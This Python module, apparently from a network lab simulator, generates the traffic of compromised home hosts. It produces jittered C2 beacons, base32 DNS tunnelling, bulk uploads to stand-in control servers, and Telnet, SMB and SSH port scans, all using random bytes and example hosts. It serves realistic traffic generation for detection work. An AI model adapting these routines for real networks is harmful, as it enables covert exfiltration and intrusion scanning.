"""What compromised hosts of the home network do: report, tunnel, carry off, look for others.

Beacons are regular but for their jitter; tunnels hide data in the names that they ask for.
"""

from __future__ import annotations

import asyncio
import base64
from typing import TYPE_CHECKING

from lab import dns, estate
from lab.web import Browser

if TYPE_CHECKING:
    from lab.means import Means

_AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"
_LABEL = 63
"""Longest label of a name (RFC 1035)."""
_PATIENCE = 2.5  # seconds that a bot waits for an answer


async def report(means: Means) -> None:
    """Call the same server every so many seconds until the end: over HTTP, TLS or bare TCP."""
    rng = means.rng
    period, jitter = rng.choice((3, 5, 8, 13, 20)), rng.choice((0.02, 0.1, 0.3))
    server, way = rng.choice(estate.OUTSIDE_CONTROL), rng.choice(("http", "tls", "tcp"))
    path = f"/stream/{rng.randint(20, 400)}"
    for _ in range(int(means.seconds * 0.85 / period)):
        await _call(means, server, way, path)
        await asyncio.sleep(period * rng.uniform(1 - jitter, 1 + jitter))


async def _call(means: Means, server: str, way: str, path: str) -> None:
    if way == "tcp":
        _, writer = await asyncio.open_connection(server, 4444, local_addr=(means.source, 0))
        writer.write(means.rng.randbytes(48))
        await writer.drain()
        writer.close()
        return
    tls = means.tls if way == "tls" else None
    async with Browser(
        means.source, server, agent=_AGENT, host="news.example.net", tls=tls
    ) as home:
        await home.get(path, body=means.rng.randbytes(40) if means.rng.random() < 0.3 else None)


async def tunnel(means: Means) -> None:
    """Send data in names, and ask for the TXT records that carry the way back."""
    inside = means.source.startswith("192.0.2.")
    server = estate.OUTSIDE_DNS if inside else estate.DNS
    domain = "t.example.net" if inside else "example.org"
    pause = means.rng.choice((0.05, 0.2, 0.7))
    for _ in range(means.rng.randint(60, 220)):
        data = means.rng.randbytes(means.rng.randint(20, 90))
        text = base64.b32encode(data).decode("ascii").rstrip("=").lower()
        labels = [text[n : n + _LABEL] for n in range(0, len(text), _LABEL)]
        kind = means.rng.choice((dns.TXT, dns.TXT, dns.A, dns.MX))
        packet = dns.question(means.rng, ".".join((*labels, domain)), kind)
        await dns.ask(means.source, server, packet)
        await asyncio.sleep(means.rng.expovariate(1 / pause))


async def carry_off(means: Means) -> None:
    """Send megabytes outside, in one piece or in several."""
    pieces = means.rng.choice((1, 1, 3, 6))
    tls = means.tls if means.rng.random() < 0.6 else None
    server = means.rng.choice(estate.OUTSIDE_CONTROL)
    for _ in range(pieces):
        async with Browser(
            means.source, server, agent="curl/7.88.1", host="news.example.net", tls=tls
        ) as store:
            size = means.rng.randint(2_000_000, 6_000_000) // pieces
            await store.get("/upload/a", body=means.rng.randbytes(size))
        await asyncio.sleep(means.rng.uniform(1, 8))


async def look_for_others(means: Means) -> None:
    """Try one port of many addresses outside, a few at a time."""
    port = means.rng.choice((23, 445, 22, 2323))
    targets = means.rng.sample(estate.PEERS, means.rng.randint(30, 90))
    await _try(means, targets, port, at_once=8)


async def call_peers(means: Means) -> None:
    """Call peers that were there once, as a file sharer does: benign, and all of it in vain."""
    targets = means.rng.sample(estate.PEERS, means.rng.randint(6, 30))
    for target in targets:
        port = means.rng.randint(6881, 65000)
        await _try(means, [target], port, at_once=1)
    await dns.ask(
        means.source, estate.OUTSIDE_DNS, dns.question(means.rng, "news.example.net", dns.A)
    )


async def _try(means: Means, targets: list[str], port: int, *, at_once: int) -> None:
    for begin in range(0, len(targets), at_once):
        several = targets[begin : begin + at_once]
        await asyncio.gather(*(_knock(means.source, target, port) for target in several))


async def _knock(source: str, target: str, port: int) -> None:
    try:
        async with asyncio.timeout(_PATIENCE):
            _, writer = await asyncio.open_connection(target, port, local_addr=(source, 0))
        writer.close()
    except (OSError, TimeoutError):
        return  # nobody there, as nearly everywhere
